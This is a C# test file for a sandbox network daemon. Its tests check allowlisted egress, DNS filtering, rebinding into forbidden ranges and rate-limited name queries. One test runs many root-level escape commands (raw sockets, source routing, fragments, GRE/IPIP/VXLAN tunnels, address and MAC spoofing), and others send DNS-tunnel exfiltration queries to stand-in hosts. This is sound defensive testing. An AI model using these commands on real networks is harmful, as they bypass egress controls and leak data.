using Sandbox.Core.Networks;
using Sandbox.Core.Playgrounds;
using Xunit;

namespace Sandbox.Daemon.Tests.Networks;

/// <summary>Links of limited reach, against an internet in a namespace of the test.</summary>
[Collection("host network")]
public sealed class NetworkReachTests
{
    private static readonly NetworkPolicy Playground = new(NetworkPolicy.Playground, []);

    [Fact]
    public async Task A_list_of_domains_is_reached_on_its_ports_and_nothing_else_is()
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        internet.Say(("git.example", TestNet.Internet), ("other.example", FakeInternet.Elsewhere));
        internet.Outside.Serve(8080);
        internet.Outside.Serve(2222);
        var open = await net.SandboxAsync(PlaygroundId.New());
        var limited = await LimitedAsync(net, "git.example", "git.example:2222");

        Assert.Equal(TestNet.Internet, await LookUpAsync(net, limited, "git.example"));
        await TestNet.UntilAsync(() => open.Holder.ReachesAsync(FakeInternet.Elsewhere), "the internet answers");
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "a listed domain answers");
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet, 2222), "its listed port answers");
        await TestNet.UntilAsync(() => open.Holder.ReachesAsync(TestNet.Internet, 8080), "the other port answers");
        Assert.False(await limited.Holder.ReachesAsync(TestNet.Internet, 8080));
        Assert.False(await limited.Holder.ReachesAsync(FakeInternet.Elsewhere));
        Assert.False((await limited.Holder.RunAsync($"busybox ping -c1 -w2 {TestNet.Internet}")).Ok);

        // Names outside the list are answered at once, and nobody outside hears of them.
        Assert.Equal(FakeInternet.Elsewhere, await LookUpAsync(net, open, "other.example"));
        var asked = internet.Questions("other.example");
        Assert.Contains("NXDOMAIN", await AskAsync(net, limited, "-type=a other.example."));
        Assert.Contains("NXDOMAIN", await AskAsync(net, limited, "-type=txt c2VjcmV0.git.example."));
        Assert.Equal(asked, internet.Questions("other.example"));
        Assert.Equal(0, internet.Questions("c2VjcmV0"));

        // Neither its own resolver at another address nor that of the internet is a way around.
        Assert.False((await limited.Holder.RunAsync($"timeout 3 busybox nslookup -type=a other.example. {TestNet.Internet}")).Ok);
        Assert.False((await limited.Holder.RunAsync($"timeout 3 busybox nslookup -type=a git.example. {net.Networks.Address(limited.Place with { Host = 1 })}:5302")).Ok);
    }

    /// <summary>Root with every privilege in the namespace of a limited link sends what it can to another address of the internet.</summary>
    [Fact]
    public async Task Nothing_that_root_can_send_passes_a_list()
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        internet.Say(("git.example", TestNet.Internet));
        var open = await net.SandboxAsync(PlaygroundId.New());
        var limited = await LimitedAsync(net, "git.example");
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "the listed domain answers");
        await internet.Outside.ShellAsync($"nft 'add table ip count; add chain ip count in {{ type filter hook prerouting priority -300; }}; add rule ip count in ip daddr {FakeInternet.Elsewhere} counter'");
        var (own, other) = (net.Networks.Address(limited.Place), net.Networks.Address(open.Place));
        var to = FakeInternet.Elsewhere;
        await Task.WhenAll(((string[])
        [
            $"busybox ping -c1 -w1 {to}; busybox ping -s 4000 -c1 -w1 {to}",
            $"for port in 22 53 80 443 853 8080; do curl -s --connect-timeout 1 http://{to}:$port/; done",
            // Datagrams, and every protocol that tunnels are made of.
            $"perl -MSocket -e 'socket(S,AF_INET,SOCK_DGRAM,0); send(S,\"x\"x$_,0,sockaddr_in($_,inet_aton(\"{to}\"))) for (53,80,123,443,500,4500)'",
            $"perl -MSocket -e 'for (1,2,4,6,17,33,41,47,50,51,89,94,103,115,132,136,253) {{ socket(S,AF_INET,SOCK_RAW,$_); send(S,\"\\0\\x50\"x50,0,sockaddr_in(0,inet_aton(\"{to}\"))) }}'",
            // By way of the listed address (loose source route), and to it first, with the port in a later fragment.
            $"perl -MSocket -e 'socket(S,AF_INET,SOCK_STREAM,0); setsockopt(S,0,4,pack(\"CCCa4C\",0x83,7,4,inet_aton(\"{to}\"),0)); alarm 2; connect(S,sockaddr_in(80,inet_aton(\"{TestNet.Internet}\")))'",
            $"perl -MSocket -e 'socket(S,AF_INET,SOCK_RAW,255); for ([0x2000,0],[0x2001,1],[1,0]) {{ send(S,pack(\"CCnnnCCna4a4\",0x45,0,28,7,$_->[0],9,6,0,inet_aton(\"{own}\"),inet_aton(\"{to}\")).\"\\0\\x50\"x4,0,sockaddr_in(0,inet_aton(\"{to}\"))) }}'",
            $"ip tunnel add g mode gre remote {to} local {own} ttl 9; ip addr add 10.9.9.1/30 dev g; ip link set g up; busybox ping -c1 -w1 10.9.9.2",
            $"ip tunnel add i mode ipip remote {to} local {own} ttl 9; ip addr add 10.9.8.1/30 dev i; ip link set i up; busybox ping -c1 -w1 10.9.8.2",
            $"ip link add x type vxlan id 1 remote {to} dstport 4789 dev eth0; ip addr add 10.9.7.1/30 dev x; ip link set x up; busybox ping -c1 -w1 10.9.7.2",
        ]).Select(TryAsync));
        foreach (var script in (string[])
        [
            // As somebody whose link is open: by address, and by tag of a network.
            $"ip addr add {other}/32 dev eth0; curl -s --connect-timeout 1 --interface {other} http://{to}/; ip addr del {other}/32 dev eth0",
            $"ip link add link eth0 name v type vlan id 2; ip addr add {own}/28 dev v; ip link set v up; ip route add {to}/32 dev v; curl -s --connect-timeout 1 http://{to}/; ip link del v",
            $"ip link set eth0 address 02:00:00:00:00:99; curl -s --connect-timeout 1 http://{to}/",
        ])
        {
            await TryAsync(script);
        }

        Assert.Equal(0, await PacketsAsync());
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "the listed domain still answers");
        await TestNet.UntilAsync(() => open.Holder.ReachesAsync(to), "the open link reaches it");
        Assert.NotEqual(0, await PacketsAsync());

        Task TryAsync(string script) => limited.Holder.RunAsync($"set +e; {script}");

        // ip daddr 9.9.9.9 counter packets 0 bytes 0
        async Task<long> PacketsAsync() =>
            long.Parse((await internet.Outside.ShellAsync("nft list chain ip count in")).Split("packets ")[1].Split(' ')[0], System.Globalization.CultureInfo.InvariantCulture);
    }

    [Fact]
    public async Task A_domain_keeps_being_reached_when_its_address_changes_and_the_old_address_does_not()
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        internet.Say(("git.example", TestNet.Internet));
        var limited = await LimitedAsync(net, "git.example");
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "the first address answers");
        Assert.False(await limited.Holder.ReachesAsync(FakeInternet.Elsewhere));

        internet.Say(("git.example", FakeInternet.Elsewhere));

        await TestNet.UntilAsync(async () => await LookUpAsync(net, limited, "git.example") == FakeInternet.Elsewhere, "the name has the second address");
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(FakeInternet.Elsewhere), "the second address answers");
        await TestNet.UntilAsync(async () => !await limited.Holder.ReachesAsync(TestNet.Internet), "the first address is closed");
    }

    [Fact]
    public async Task A_domain_that_is_not_known_at_the_launch_is_reached_once_it_is()
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        var limited = await LimitedAsync(net, "late.example");
        Assert.Equal("", await LookUpAsync(net, limited, "late.example"));

        internet.Say(("late.example", TestNet.Internet));

        await TestNet.UntilAsync(async () => await LookUpAsync(net, limited, "late.example") == TestNet.Internet, "the name is there");
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "the domain answers");
    }

    [Theory]
    [InlineData(TestNet.PrivateNeighbour)]
    [InlineData(TestNet.Neighbour)]
    [InlineData("127.0.0.1")]
    [InlineData("169.254.169.254")]
    [InlineData("100.127.0.1")]
    [InlineData("::1")]
    [InlineData("fd00::1")]
    public async Task A_name_that_leads_into_a_forbidden_range_has_no_address(string address)
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        internet.Say(("evil.example", address), ("good.example", TestNet.Internet));
        var open = await net.SandboxAsync(PlaygroundId.New());
        var limited = await LimitedAsync(net, "evil.example", "good.example");
        await TestNet.UntilAsync(async () => (await net.ShellAsync("nft list set inet sandbox-tn onlink")).Contains("198.51.100.0/24", StringComparison.Ordinal), "the prefix is refused");

        foreach (var sandbox in new[] { open, limited })
        {
            await TestNet.UntilAsync(async () => await LookUpAsync(net, sandbox, "good.example") == TestNet.Internet, "the resolver answers");
            await TestNet.UntilAsync(async () => await LookUpAsync(net, sandbox, "evil.example") == "", "the resolver refuses");
            Assert.DoesNotContain(address, await AskAsync(net, sandbox, "-type=aaaa evil.example."));
            Assert.True(await sandbox.Holder.ReachesAsync(TestNet.Internet));
            if (address is TestNet.PrivateNeighbour or TestNet.Neighbour)
            {
                Assert.False(await sandbox.Holder.ReachesAsync(address));
            }
        }
    }

    /// <summary>The check of the list and the use of the name are two moments.</summary>
    [Fact]
    public async Task A_listed_domain_that_moves_into_a_forbidden_range_leads_nowhere()
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        internet.Say(("evil.example", TestNet.Internet));
        var limited = await LimitedAsync(net, "evil.example");
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "the listed domain answers");

        internet.Say(("evil.example", TestNet.PrivateNeighbour));

        await TestNet.UntilAsync(async () => await LookUpAsync(net, limited, "evil.example") == "", "the name is gone");
        await net.ShellAsync($"curl -s -o /dev/null --connect-timeout 4 http://{TestNet.PrivateNeighbour}/"); // it is really there
        Assert.False(await limited.Holder.ReachesAsync(TestNet.PrivateNeighbour));
        Assert.DoesNotContain(TestNet.PrivateNeighbour, await net.ShellAsync("nft list set bridge sandbox-tn reachable"));
    }

    [Fact]
    public async Task Nodes_of_a_playground_without_the_internet_reach_each_other_by_name()
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        internet.Say(("git.example", TestNet.Internet));
        var playground = PlaygroundId.New();
        var web = await net.SandboxAsync(playground, "web", Playground);
        web.Holder.Serve();

        // Alone, it has nobody to ask, and hears so at once.
        Assert.False((await web.Holder.RunAsync($"timeout 20 busybox nslookup -type=a git.example. {net.Networks.ResolverAddress}")).ExitCode == 124);
        Assert.Contains("No route to host", (await web.Holder.RunAsync($"curl -s -v --connect-timeout 20 http://{TestNet.Internet}/ 2>&1 >/dev/null || true")).Text, StringComparison.Ordinal);

        var database = await net.SandboxAsync(playground, "db", Playground);
        var front = await net.SandboxAsync(playground, "front");
        Assert.Equal(net.Networks.Address(web.Place), await LookUpAsync(net, database, "web"));
        Assert.Equal(net.Networks.Address(web.Place), await LookUpAsync(net, front, "web"));
        await TestNet.UntilAsync(() => database.Holder.ReachesAsync(net.Networks.Address(web.Place)), "a node answers");
        await TestNet.UntilAsync(() => front.Holder.ReachesAsync(TestNet.Internet), "the internet answers the node that may");
        Assert.Equal(TestNet.Internet, await LookUpAsync(net, front, "git.example"));
        Assert.Contains("NXDOMAIN", await AskAsync(net, database, "-type=a git.example."));
        Assert.Contains("NXDOMAIN", await AskAsync(net, database, "-type=a c2VjcmV0.tunnel.example."));
        Assert.Equal(0, internet.Questions("c2VjcmV0"));
        Assert.False(await database.Holder.ReachesAsync(TestNet.Internet));
        Assert.False(await web.Holder.ReachesAsync(TestNet.Internet));
    }

    [Fact]
    public async Task A_reach_holds_while_no_daemon_runs_and_under_the_next_one()
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        internet.Say(("git.example", TestNet.Internet));
        var limited = await LimitedAsync(net, "git.example");
        var closed = await net.SandboxAsync(PlaygroundId.New(), "one", Playground);
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "the listed domain answers");

        await net.StopAsync();
        Assert.True(await limited.Holder.ReachesAsync(TestNet.Internet));
        Assert.Equal(TestNet.Internet, await LookUpAsync(net, limited, "git.example"));
        Assert.False(await limited.Holder.ReachesAsync(FakeInternet.Elsewhere));
        Assert.False(await closed.Holder.ReachesAsync(TestNet.Internet));

        await net.StartAgainAsync(
            TestNet.Options with { Nameservers = [TestNet.Internet], DomainRefresh = TimeSpan.FromSeconds(1), DomainGrace = TimeSpan.Zero },
            [limited, closed], [new NetworkPolicy(NetworkPolicy.Egress, ["git.example"]), Playground]);
        Assert.Equal(TestNet.Internet, await LookUpAsync(net, limited, "git.example"));
        await TestNet.UntilAsync(() => limited.Holder.ReachesAsync(TestNet.Internet), "the listed domain answers again");
        Assert.False(await limited.Holder.ReachesAsync(FakeInternet.Elsewhere));
        Assert.False(await closed.Holder.ReachesAsync(TestNet.Internet));

        await net.Networks.DetachAsync(limited.Playground, limited.Id, limited.Place);
        await net.Networks.DetachAsync(closed.Playground, closed.Id, closed.Place);
        Assert.Equal("", await net.ShellAsync("ls /tmp/sandbox-networks/names"));
        Assert.Single((await net.TracesAsync()).Split('\n'), line => line.Contains("dnsmasq", StringComparison.Ordinal));
        Assert.DoesNotContain(TestNet.Internet, await net.ShellAsync("nft list table bridge sandbox-tn"));
    }

    /// <summary>Two ways of asking, each with as many questions as fit: the name server outside hears no more than the pace lets through.</summary>
    [Theory]
    [InlineData("udp", 3000)]
    [InlineData("tcp", 20000)]
    public async Task Names_carry_little_out(string protocol, int questions)
    {
        await using var net = await TestNet.StartAsync();
        using var internet = await FakeInternet.StartAsync(net);
        var sandbox = await net.SandboxAsync(PlaygroundId.New());
        var neighbour = await net.SandboxAsync(PlaygroundId.New());
        await TestNet.UntilAsync(async () => (await AskAsync(net, sandbox, "-type=a first.tunnel.example.")).Contains(TestNet.Internet, StringComparison.Ordinal), "the resolver answers");

        var began = TimeProvider.System.GetTimestamp();
        await sandbox.Holder.RunAsync($$"""
            timeout 8 perl -MIO::Socket::INET -MSocket -e '
              my $s = IO::Socket::INET->new(PeerAddr => "{{net.Networks.ResolverAddress}}", PeerPort => 53, Proto => "{{protocol}}") or die;
              for my $i (1 .. {{questions}}) {
                my $n = sprintf("stolen%06d", $i);
                my $q = pack("nnnnnn", $i & 65535, 256, 1, 0, 0, 0) . pack("C/a*", $n) . pack("C/a*", "tunnel") . pack("C/a*", "example") . pack("Cnn", 0, 1, 1);
                $q = pack("n/a*", $q) if "{{protocol}}" eq "tcp";
                $s->send($q) or exit;
              }
              sleep 1' || true
            """);
        var through = internet.Questions("stolen");
        var seconds = TimeProvider.System.GetElapsedTime(began).TotalSeconds + 1;

        // A question of these has 40 bytes; over TCP 42, in packets that are counted with their headers.
        Assert.InRange(through, 1, protocol == "udp" ? 200 + (50 * seconds) : (32_768 + (8192 * seconds)) / 42);
        Assert.Contains(TestNet.Internet, await AskAsync(net, neighbour, "-type=a neighbour.tunnel.example."), StringComparison.Ordinal);
    }

    private static Task<TestSandbox> LimitedAsync(TestNet net, params string[] domains) =>
        net.SandboxAsync(PlaygroundId.New(), "main", new NetworkPolicy(NetworkPolicy.Egress, domains));

    private static async Task<string> LookUpAsync(TestNet net, TestSandbox from, string name) =>
        (await AskAsync(net, from, $"-type=a {name}.")).Split('\n').Skip(3).FirstOrDefault(line => line.StartsWith("Address: ", StringComparison.Ordinal))?[9..].Trim() ?? "";

    private static async Task<string> AskAsync(TestNet net, TestSandbox from, string question) =>
        (await from.Holder.RunAsync($"busybox nslookup {question} {net.Networks.ResolverAddress} 2>&1 || true")).Text;
}
